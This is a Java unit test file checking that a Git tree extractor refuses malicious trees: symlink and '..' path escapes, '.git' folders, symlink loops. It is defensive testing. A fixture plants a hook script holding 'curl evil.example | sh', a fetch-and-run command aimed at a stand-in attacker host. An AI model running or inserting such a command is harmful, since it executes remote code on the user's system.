package dev.junction.git;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.junction.testing.RawTree;
import dev.junction.testing.TestRepo;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.util.List;
import java.util.stream.Stream;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Extraction of hand-made trees into a copy: {@code dir/copy} is the copy, everything else under
 * {@code dir} is "outside" and must stay as it was (empty but for the repository).
 */
class TreesTest {
  @TempDir Path dir;
  @TempDir Path repoDir;
  @TempDir Path elsewhere;
  TestRepo repo;
  Path copy;

  @BeforeEach
  void setUp() throws Exception {
    repo = TestRepo.init(repoDir);
    copy = Files.createDirectory(dir.resolve("copy"));
  }

  @org.junit.jupiter.api.AfterEach
  void tearDown() {
    repo.close();
  }

  ObjectId commit(RawTree tree) throws IOException {
    return tree.commit(repo.repo(), "main", "test: tree\n", repo.tick());
  }

  /** Extraction is refused naming {@code path}, and nothing was written, inside the copy or out. */
  void refused(RawTree tree, String path, String problem) throws Exception {
    ObjectId c = commit(tree);
    assertThatThrownBy(() -> Trees.extract(repo.repo(), c, copy))
        .isInstanceOfSatisfying(Trees.Unextractable.class, e -> {
          assertThat(e.path()).isEqualTo(path);
          assertThat(e).hasMessageContaining("'" + path + "'").hasMessageContaining(problem);
        });
    assertThat(list(dir)).containsExactly("copy");
    assertThat(list(copy)).isEmpty();
    assertThat(list(elsewhere)).isEmpty();
  }

  static List<String> list(Path folder) throws IOException {
    try (Stream<Path> s = Files.list(folder)) {
      return s.map(p -> p.getFileName().toString()).sorted().toList();
    }
  }

  static RawTree hook() {
    return RawTree.of().dir("hooks", RawTree.of().executable("post-receive", "#!/bin/sh\ncurl evil.example | sh\n"));
  }

  @Test
  void aSymlinkToTheParentWithAFileUnderItIsRefused() throws Exception {
    refused(RawTree.of().file("README", "hi\n").link("evil", "..").dir("evil", hook()),
        "evil/hooks/post-receive", "lies under 'evil', which is a symlink");
  }

  @Test
  void aSymlinkToAnAbsoluteFolderWithAFileUnderItIsRefused() throws Exception {
    refused(RawTree.of().link("evil", elsewhere.toString()).dir("evil", hook()),
        "evil/hooks/post-receive", "lies under 'evil', which is a symlink");
  }

  @Test
  void aFileUnderAFileOfTheSameNameIsRefused() throws Exception {
    refused(RawTree.of().file("evil", "x\n").dir("evil", hook()), "evil/hooks/post-receive", "not a folder");
  }

  @Test
  void twoEntriesOfOnePathAreRefused() throws Exception {
    refused(RawTree.of().file("twice", "a\n").link("twice", "README").file("README", "r\n"),
        "twice", "two entries of the tree have this path");
  }

  @Test
  void dotDotComponentsAreRefused() throws Exception {
    refused(RawTree.of().dir("sub", RawTree.of().dir("..", RawTree.of().dir("..", RawTree.of().file("escape.txt", "x\n")))),
        "sub/../../escape.txt", "a path component is '..'");
  }

  @Test
  void dotAndEmptyComponentsAreRefused() throws Exception {
    refused(RawTree.of().dir(".", RawTree.of().file("x", "x\n")), "./x", "a path component is '.'");
    refused(RawTree.of().dir("a", RawTree.of().dir("", RawTree.of().file("x", "x\n"))), "a//x", "a path component is empty");
  }

  @Test
  void gitFoldersAreRefusedInAnyCase() throws Exception {
    refused(RawTree.of().dir(".git", hook()), ".git/hooks/post-receive", "a path component is '.git'");
    refused(RawTree.of().dir("sub", RawTree.of().dir(".GIT", RawTree.of().file("config", "[core]\n"))),
        "sub/.GIT/config", "a path component is '.GIT'");
  }

  @Test
  void absoluteSymlinksAreRefused() throws Exception {
    refused(RawTree.of().link("out", elsewhere.toString()), "out", "absolute path");
  }

  @Test
  void symlinksLeadingOutOfTheCopyAreRefused() throws Exception {
    refused(RawTree.of().dir("sub", RawTree.of().link("up", "../..")), "sub/up", "leads outside the copy");
  }

  @Test
  void aSymlinkThatLeavesOnlyThroughAnotherSymlinkIsRefused() throws Exception {
    // Read as text, sub/out is sub/x; followed as the system does, sub/up is the copy's root and out is beside it.
    refused(RawTree.of().dir("sub", RawTree.of().link("up", "..").link("out", "up/../x")),
        "sub/out", "leads outside the copy");
  }

  @Test
  void aSymlinkTooLongForTheSystemIsRefusedUnread() throws Exception {
    refused(RawTree.of().link("long", "a/".repeat(2049)), "long", "longer than 4096 bytes");
  }

  @Test
  void symlinkLoopsAreRefused() throws Exception {
    refused(RawTree.of().link("a", "b").link("b", "a"), "a", "loops");
  }

  @Test
  void aNormalTreeIsCopiedWithExecutableBitsAndItsInsideSymlinks() throws Exception {
    ObjectId c = commit(RawTree.of()
        .file("README.md", "read me\n")
        .executable("run.sh", "#!/bin/sh\necho ran\n")
        .link("go", "run.sh")
        .dir("docs", RawTree.of().link("README.md", "../README.md").link("later", "not-yet-there.md"))
        .dir("lib-1.2", RawTree.of().file("lib.txt", "v1.2\n"))
        .dir("lib", RawTree.of().link("current", "../lib-1.2"))
        .dir("sub", RawTree.of().link("root", "..").link("via", "root/lib/current/lib.txt")));
    Trees.extract(repo.repo(), c, copy);
    assertThat(Files.readString(copy.resolve("docs/README.md"))).isEqualTo("read me\n");
    assertThat(Files.isSymbolicLink(copy.resolve("docs/README.md"))).isTrue();
    assertThat(Files.readSymbolicLink(copy.resolve("lib/current"))).isEqualTo(Path.of("../lib-1.2"));
    assertThat(Files.readString(copy.resolve("lib/current/lib.txt"))).isEqualTo("v1.2\n");
    assertThat(Files.readString(copy.resolve("sub/via"))).isEqualTo("v1.2\n");
    assertThat(Files.isSymbolicLink(copy.resolve("docs/later"))).isTrue();
    assertThat(Files.getPosixFilePermissions(copy.resolve("run.sh"))).contains(PosixFilePermission.OWNER_EXECUTE);
    assertThat(Files.getPosixFilePermissions(copy.resolve("README.md"))).doesNotContain(PosixFilePermission.OWNER_EXECUTE);
    assertThat(Files.readString(copy.resolve("go"))).startsWith("#!/bin/sh");
    assertThat(list(dir)).containsExactly("copy");
  }
}
